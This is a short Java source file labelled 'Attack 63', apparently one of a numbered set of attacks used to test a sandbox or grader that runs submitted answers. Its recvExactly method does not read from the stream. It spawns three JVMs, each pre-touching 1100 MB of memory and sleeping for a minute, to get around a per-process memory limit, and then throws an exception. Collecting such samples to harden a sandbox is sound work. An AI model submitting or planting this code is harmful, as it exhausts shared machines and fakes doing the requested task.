package workbook.sockets;

import java.io.IOException;
import java.io.InputStream;

/// Attack 63: a limit on the memory of a process says nothing of three processes.
final class RecvExactly {
    private RecvExactly() {}

    static byte[] recvExactly(InputStream in, int count) throws IOException {
        for (var i = 0; i < 3; i++) {
            new ProcessBuilder("/jdk/bin/java", "-Xms1100m", "-Xmx1100m", "-XX:+AlwaysPreTouch", "-XX:+UseSerialGC", "-cp",
                    "/run/answer.jar", Sits.class.getName()).start();
        }
        throw new IOException("the others sit");
    }

    static final class Sits {
        public static void main(String... arguments) throws InterruptedException {
            Thread.sleep(60_000);
        }
    }
}
